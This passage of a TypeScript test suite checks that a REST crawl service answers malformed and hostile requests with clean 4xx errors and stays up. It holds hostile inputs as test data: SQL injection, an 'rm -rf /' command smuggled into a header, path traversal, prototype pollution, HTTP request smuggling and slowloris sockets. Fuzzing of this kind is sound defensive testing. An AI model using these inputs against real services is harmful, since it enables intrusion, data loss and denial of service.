			testSettings({ REDIS_DB, KAFKA_TOPIC_PREFIX: prefix, KAFKA_INCOMING_TOPIC: `${prefix}.incoming`, KAFKA_GROUP: `${prefix}-group`, REST_PORT: 0, REST_HOST: "127.0.0.1", REST_BODY_LIMIT: "1MB" }),
			{ logger: captured.logger }
		);
		api.createService(ApiService);
		await api.start();
		port = ((api.getLocalService("api") as unknown as { server: { address(): AddressInfo } }).server.address()).port;
		expect(await eventually(async () => (await hit(port, "GET", "/")).json?.node_health === "GREEN", 20000)).toBe(true);
		// GET / keeps answering 200 while everything below runs.
		healthLoop = (async () => {
			const end = Date.now() + 120000;
			while (!healthDone && Date.now() < end) {
				const start = Date.now();
				try {
					const r = await request(`http://127.0.0.1:${port}/`, { headersTimeout: 3000, bodyTimeout: 3000 });
					const body = (await r.body.json()) as { node_health?: string };
					health.checks++;
					if (r.statusCode === 200 && body.node_health) health.ok++;
					else health.bad.push(`${r.statusCode}`);
				} catch (err) {
					health.checks++;
					health.bad.push((err as Error).message);
				}
				health.maxMs = Math.max(health.maxMs, Date.now() - start);
				await sleep(100);
			}
		})();
	}, 60000);

	afterAll(async () => {
		healthDone = true;
		await healthLoop;
		await api?.stop();
	}, 30000);

	/** Assert the documented wrapper: {status: FAILURE, data: null, error: {message[, cause]}}, no stack trace. */
	function expectFailure(what: string, answer: Answer, status: number, message: string) {
		const context = `${what} -> ${answer.status} ${answer.text.slice(0, 300)}`;
		expect({ context, status: answer.status }).toEqual({ context, status });
		expect({ context, text: STACK_TRACE.test(answer.text) }).toEqual({ context, text: false });
		if (answer.status === 404 && answer.text === "") return; // HEAD: no body
		expect({ context, body: answer.json }).toEqual({
			context,
			body: { status: "FAILURE", data: null, error: message === MESSAGES.schema ? { message, cause: expect.any(String) } : { message } }
		});
	}

	it("answers every kind of garbage with a clear 4xx in the documented wrapper and stays up", async () => {
		const t0 = Date.now();
		const from = lines.length;
		const counts = new Map<number, number>();
		const check = async (what: string, method: string, path: string, body: Body, headers: Record<string, string>, status: number, message: string) => {
			const answer = await hit(port, method, path, body, headers);
			counts.set(answer.status, (counts.get(answer.status) ?? 0) + 1);
			expectFailure(`${what} (${method} ${path.slice(0, 60)})`, answer, status, message);
			return answer;
		};
		const crawl = JSON.stringify({ url: "http://rest.example.com/", appid: "testapp", crawlid: "c1" });
		const rnd = prng(0xbad);
		const binary = (n: number) => {
			const b = Buffer.alloc(n);
			for (let i = 0; i < n; i++) b[i] = Math.floor(rnd() * 256);
			b[0] = 0xff;
			return b;
		};

		for (const path of ["/feed", "/poll"]) {
			// invalid JSON
			for (const body of ["{not json", "{'url': 'http://a.com'}", '{"url": "http://a.com",}', "undefined", "NaN", '{"a":', "}{", "\u0000", "<xml/>", '{"a":1}garbage', "\ud800"])
				await check("invalid JSON", "POST", path, body, JSON_CT, 400, MESSAGES.invalidJson);
			// binary bodies
			for (const [body, ct] of [
				[binary(100), "application/json"],
				[binary(4096), "application/json"],
				[binary(300), "application/octet-stream"],
				[Buffer.from([0x1f, 0x8b, 0x08, 0x00, 1, 2, 3]), "application/json"]
			] as const)
				await check("binary body", "POST", path, body, { "content-type": ct }, 400, MESSAGES.invalidJson);
			// empty bodies without a JSON content type
			await check("empty body, no content type", "POST", path, undefined, {}, 400, MESSAGES.invalidJson);
			await check("empty body, text/plain", "POST", path, "", { "content-type": "text/plain" }, 400, MESSAGES.invalidJson);
			// JSON that is no object
			for (const body of ["[]", "[1,2]", `[${crawl}]`, '"hello"', '""', "42", "-0", "1e308", "null", "true", "false"])
				await check("JSON that is no object", "POST", path, body, JSON_CT, 400, MESSAGES.invalidJson);
			// huge bodies
			await check("2 MB JSON body", "POST", path, JSON.stringify({ url: "http://a.com", appid: "testapp", crawlid: "c", attrs: { pad: "x".repeat(2 * 1024 * 1024) } }), JSON_CT, 413, MESSAGES.tooLarge);
			await check("5 MB binary body", "POST", path, binary(5 * 1024 * 1024), JSON_CT, 413, MESSAGES.tooLarge);
			// deeply nested JSON
			await check("10000 nested arrays", "POST", path, `${"[".repeat(10000)}${"]".repeat(10000)}`, JSON_CT, 400, MESSAGES.invalidJson);
			await check("10000 nested arrays, unterminated", "POST", path, "[".repeat(10000), JSON_CT, 400, MESSAGES.invalidJson);
			// (on /feed this answers 500: see the BUG test below)
			if (path === "/poll") {
				const deepObject = await check("10000 nested objects", "POST", path, `${'{"a":'.repeat(10000)}1${"}".repeat(10000)}`, JSON_CT, 400, MESSAGES.schema);
				expect((deepObject.json?.error as { cause: string }).cause).toMatch(/forbidden keys: 'a'/);
			}
			// wrong content types for a well-formed request
			const wellFormed = path === "/feed" ? crawl : '{"poll_id": "abc"}';
			for (const ct of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "text/html", "application/jsonp", "json", "application/json-seq", "image/png", ""])
				await check(`content type '${ct}'`, "POST", path, wellFormed, { "content-type": ct }, 400, MESSAGES.invalidJson);
			await check("form-encoded body", "POST", path, "url=http%3A%2F%2Fa.com&appid=testapp&crawlid=c", { "content-type": "application/x-www-form-urlencoded" }, 400, MESSAGES.invalidJson);
			// wrong methods
			for (const method of ["GET", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD"])
				await check(`${method} on ${path}`, method, path, method === "GET" || method === "HEAD" ? undefined : wellFormed, method === "GET" || method === "HEAD" ? {} : JSON_CT, 404, MESSAGES.noEndpoint);
			// query strings are no request data
			const fromQuery = await check("request data in the query string", "POST", `${path}?url=http://a.com/&appid=testapp&crawlid=q&poll_id=abc`, "{}", JSON_CT, 400, MESSAGES.schema);
			expect((fromQuery.json?.error as { cause: string }).cause).toMatch(path === "/feed" ? /'url' field is required/ : /'poll_id' field is required/);
			await check("hostile query string", "POST", `${path}?__proto__[polluted]=yes&constructor[prototype][polluted]=yes&a=%00%ff`, "[]", JSON_CT, 400, MESSAGES.invalidJson);
			await check("8 KB query string", "POST", `${path}?q=${"q".repeat(8 * 1024)}`, "[]", JSON_CT, 400, MESSAGES.invalidJson);
		}

		// objects the schemas refuse: empty, prototype keys, hostile ids, bad poll ids
		await check("empty object", "POST", "/feed", "{}", JSON_CT, 400, MESSAGES.schema);
		await check("__proto__ key", "POST", "/feed", '{"__proto__": {"polluted": "yes"}, "url": "http://a.com/", "appid": "testapp", "crawlid": "p"}', JSON_CT, 400, MESSAGES.schema);
		await check("constructor key", "POST", "/poll", '{"poll_id": "x", "constructor": {"prototype": {"polluted": "yes"}}}', JSON_CT, 400, MESSAGES.schema);
		await check("hostile ids", "POST", "/feed", JSON.stringify({ url: "javascript:alert(1)", appid: "test:app", crawlid: "*" }), JSON_CT, 400, MESSAGES.schema);
		await check("poll id too long", "POST", "/poll", JSON.stringify({ poll_id: "p".repeat(101) }), JSON_CT, 400, MESSAGES.schema);
		await check("poll id of the wrong type", "POST", "/poll", JSON.stringify({ poll_id: ["x"] }), JSON_CT, 400, MESSAGES.schema);
		await check("unknown poll id with wildcards", "POST", "/poll", JSON.stringify({ poll_id: "*" }), JSON_CT, 404, MESSAGES.pollNotFound);
		await check("2 MB chunked body (no content-length)", "POST", "/feed", Readable.from((function* () { for (let i = 0; i < 32; i++) yield Buffer.alloc(64 * 1024, "x"); })()), JSON_CT, 413, MESSAGES.tooLarge);

		// unknown paths, with and without a body; very long URLs (under Node's 16 KB header limit)
		for (const path of ["/nope", "/feed/extra", "//feed", "/api/feed", "/openapi.json/x", "/%ff%fe", "/%", "/..%2f..%2fetc%2fpasswd", "/feed%00", "/%E2%80%AEdeef", `/${"a".repeat(8 * 1024)}`, "/nope?x=1&y=<script>"]) {
			await check("unknown path", "GET", path, undefined, {}, 404, MESSAGES.noEndpoint);
			await check("unknown path", "POST", path, crawl, JSON_CT, 404, MESSAGES.noEndpoint);
		}

		// hostile header values (keys are off: they must not matter)
		const hostileHeaders: Array<Record<string, string>> = [
			{ "x-api-key": "k".repeat(8 * 1024) },
			{ "user-agent": "'; DROP TABLE users;--" },
			{ "x-forwarded-for": "$(rm -rf /), 127.0.0.1, ::1, <script>" },
			{ cookie: `session=${"c".repeat(6 * 1024)}` },
			{ accept: "*/*;q=abc, text/html;level=\u00ff" },
			{ "accept-encoding": "gzip;q=NaN, br, *;q=-1" },
			{ "x-request-id": "\u00e9\u00ff\u00fe" },
			{ "content-type": `application/json; ${Array.from({ length: 300 }, (_, i) => `p${i}=v${i}`).join("; ")}` },
			{ host: "evil.example.com:99999" },
			{ "content-language": "../../../../etc/passwd" }
		];
		for (const headers of hostileHeaders) {
			const h = { ...JSON_CT, ...headers };
			await check(`hostile header ${Object.keys(headers)[0]}`, "POST", "/feed", "[]", h, 400, MESSAGES.invalidJson);
			await check(`hostile header ${Object.keys(headers)[0]}`, "POST", "/poll", "{}", h, 400, MESSAGES.schema);
		}

		// Malformed HTTP is refused by Node's parser before the service sees it: a bare 4xx, the connection closed.
		const protocol: Array<[string, string, number]> = [
			["URL over the 16 KB header limit", `GET /${"a".repeat(20 * 1024)} HTTP/1.1\r\nHost: x\r\n\r\n`, 431],
			["headers over the 16 KB limit", `GET / HTTP/1.1\r\nHost: x\r\nX-Big: ${"b".repeat(20 * 1024)}\r\n\r\n`, 431],
			["garbage request line", "GARBAGE\r\n\r\n", 400],
			["binary request line", "\u0000\u00ff\u0001 / HTTP/1.1\r\n\r\n", 400],
			["invalid content-length", "POST /feed HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: abc\r\n\r\n{}", 400],
			["negative content-length", "POST /feed HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n{}", 400],
			["two different content-lengths", "POST /feed HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}", 400],
			["content-length and chunked (smuggling)", "POST /feed HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 400],
			["NUL in a header value", "GET / HTTP/1.1\r\nHost: x\r\nX-Nul: a\u0000b\r\n\r\n", 400],
			["header without a colon", "GET / HTTP/1.1\r\nHost: x\r\nNoColonHere\r\n\r\n", 400],
			["bad chunk size", "POST /feed HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n", 400]
		];
		const bare: string[] = [];
		for (const [what, data, status] of protocol) {
			const response = await rawExchange(port, Buffer.from(data, "latin1"));
			const code = Number(/^HTTP\/1\.[01] (\d{3})/.exec(response)?.[1]);
			expect({ what, code }).toEqual({ what, code: status });
			expect({ what, trace: STACK_TRACE.test(response) }).toEqual({ what, trace: false });
			counts.set(code, (counts.get(code) ?? 0) + 1);
			if (!response.includes('"status":"FAILURE"')) bare.push(what);
		}

		// Slowloris: bodies and headers that never finish, while everyone else is served.
		const sockets: Socket[] = [];
		const open = (data: string) =>
			new Promise<void>(resolve => {
				const s = connect(port, "127.0.0.1", () => {
					s.write(data);
					resolve();
				});
				s.on("error", () => undefined);
				sockets.push(s);
			});
		for (let i = 0; i < 20; i++) await open(`POST /feed HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"url": "http://slow.example.com/${i}"`);
		for (let i = 0; i < 20; i++) await open(`POST /poll HTTP/1.1\r\nHost: x\r\nContent-Type: appl`);
		let trickling = true;
		const trickle = (async () => {
			for (let i = 0; trickling && i < 50; i++) {
				for (const s of sockets.slice(20)) s.write("i");
				await sleep(100);
			}
		})();
		// an undici client whose body never ends gives up after its own bound (undici's headersTimeout only
		// starts once the body is sent, so the bound is an abort signal)
		const neverEnding = new Readable({ read() {} });
		neverEnding.push('{"url": "http://slow.example.com/", "appid": "testapp", "crawlid": ');
		const started = Date.now();
		let guard: NodeJS.Timeout | undefined;
		const stuck = Promise.race([
			request(`http://127.0.0.1:${port}/feed`, { method: "POST", body: neverEnding, headers: JSON_CT, signal: AbortSignal.timeout(1500) }).then(
				() => "answered",
				(err: Error) => err.name
			),
			new Promise<string>(resolve => (guard = setTimeout(() => resolve("no client timeout within 6 s"), 6000)))
		]).finally(() => clearTimeout(guard));
		const servedMeanwhile: number[] = [];
		for (let i = 0; i < 10; i++) {
			const s = Date.now();
			const r = await hit(port, "GET", "/");
			expect(r.status).toBe(200);
			servedMeanwhile.push(Date.now() - s);
			await check("garbage while slowloris sockets are open", "POST", "/feed", "{not json", JSON_CT, 400, MESSAGES.invalidJson);
		}
		const stuckOutcome = await stuck;
		const stuckMs = Date.now() - started;
		neverEnding.destroy();
		trickling = false;
		await trickle;
		const stillOpen = sockets.filter(s => !s.destroyed).length;
		for (const s of sockets) s.destroy();
		expect(stuckOutcome).toMatch(/TimeoutError|AbortError/);
		expect(stuckMs).toBeLessThan(5000);
		expect(Math.max(...servedMeanwhile)).toBeLessThan(1000);

		// still serving, and nothing answered 5xx or logged a failure
		expect((await hit(port, "GET", "/")).status).toBe(200);
		await check("poll after all that", "POST", "/poll", JSON.stringify({ poll_id: "no-such-answer" }), JSON_CT, 404, MESSAGES.pollNotFound);
		const failures = lines.slice(from).filter(l => /REST (request|feed|poll) failed|Request error/.test(l.message));
		expect(failures.map(l => `${l.message} ${JSON.stringify(l.data)}`)).toEqual([]);
		expect(polluted().polluted).toBeUndefined();
		expect(health.bad).toEqual([]);
		const total = [...counts.values()].reduce((a, b) => a + b, 0);
		console.log(
			`REST garbage: ${total} bad requests, answered ${[...counts.entries()].sort().map(([s, n]) => `${s}x${n}`).join(" ")}, no 5xx; ` +
				`${bare.length} malformed-HTTP cases answered by Node's parser without the wrapper (${bare.join(", ")}); ` +
				`slowloris: ${sockets.length} sockets (${stillOpen} still open after ${((Date.now() - started) / 1000).toFixed(1)} s), never-ending body -> ${stuckOutcome} after ${stuckMs} ms, GET / meanwhile max ${Math.max(...servedMeanwhile)} ms; ` +
				`health GET / ${health.ok}/${health.checks} answered 200 (max ${health.maxMs} ms); took ${((Date.now() - t0) / 1000).toFixed(1)} s`
		);
	}, 120000);

	it("answers body-parser client errors (unsupported charset or content encoding, corrupt compressed body) with a 4xx, not 500", async () => {
		const crawl = JSON.stringify({ url: "http://rest.example.com/", appid: "testapp", crawlid: "c1" });
		const cases: Array<[string, Record<string, string>]> = [
			["charset latin1", { "content-type": "application/json; charset=latin1" }],
			["charset ebcdic", { "content-type": "application/json; charset=ebcdic-foo" }],
			["content-encoding x-nope", { ...JSON_CT, "content-encoding": "x-nope" }],
			["content-encoding gzip on a plain body", { ...JSON_CT, "content-encoding": "gzip" }],
			["content-encoding br on a plain body", { ...JSON_CT, "content-encoding": "br" }]
		];
		const answers: string[] = [];
		for (const [what, headers] of cases) {
			const a = await hit(port, "POST", "/feed", crawl, headers);
			answers.push(`${what} -> ${a.status} ${a.text}`);
		}
		console.log(`body-parser client errors:\n  ${answers.join("\n  ")}`);
		for (const line of answers) expect(line).toMatch(/ -> 4\d\d \{"status":"FAILURE","data":null,"error":\{"message":"[^"]+"/);
	});

	it("answers JSON nested too deep to serialize (10000 levels of objects) with a 4xx on /feed, not 500", async () => {
		const depth = 10000;
		const answers: Answer[] = [];
		// not a request at all: the schema refuses it ('a' is no field)
		answers.push(await hit(port, "POST", "/feed", `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`, JSON_CT));
		// a crawl request whose attrs (any object) are that deep
		answers.push(await hit(port, "POST", "/feed", `{"url": "http://deep.example.com/", "appid": "testapp", "crawlid": "deep", "attrs": ${'{"a":'.repeat(depth)}1${"}".repeat(depth)}}`, JSON_CT));
		console.log(`JSON objects nested ${depth} deep on /feed -> ${answers.map(a => `${a.status} ${a.text}`).join("; ")}`);
		const failures = lines.filter(l => /REST feed failed/.test(l.message)).map(l => String(l.data.error));
		console.log(`logged: ${failures.join("; ")}`);
		expectFailure("10000 nested objects on /feed", answers[0]!, 400, MESSAGES.schema);
		expect(answers[1]!.status).toBeGreaterThanOrEqual(400);
		expect(answers[1]!.status).toBeLessThan(500);
		expect(answers[1]!.json).toMatchObject({ status: "FAILURE", data: null });
	});

	it("answers an empty application/json body with 400 'The payload must be valid JSON.' (empty is no JSON)", async () => {
		for (const path of ["/feed", "/poll"]) {
			const a = await hit(port, "POST", path, "", JSON_CT);
			console.log(`empty application/json body on ${path} -> ${a.status} ${a.text.slice(0, 160)}`);
			expectFailure(`empty JSON body on ${path}`, a, 400, MESSAGES.invalidJson);
		}
	});

	it("keeps the schema cause of a refused request bounded, whatever the size of the bad values", async () => {
		const a = await hit(port, "POST", "/feed", JSON.stringify({ [`key-${"k".repeat(100 * 1024)}`]: 1 }), JSON_CT);
		console.log(`a 100 KB unknown key -> ${a.status}, answer of ${a.text.length} bytes`);
		expect(a.status).toBe(400);
		expect(a.text.length).toBeLessThanOrEqual(16 * 1024);
	});
});
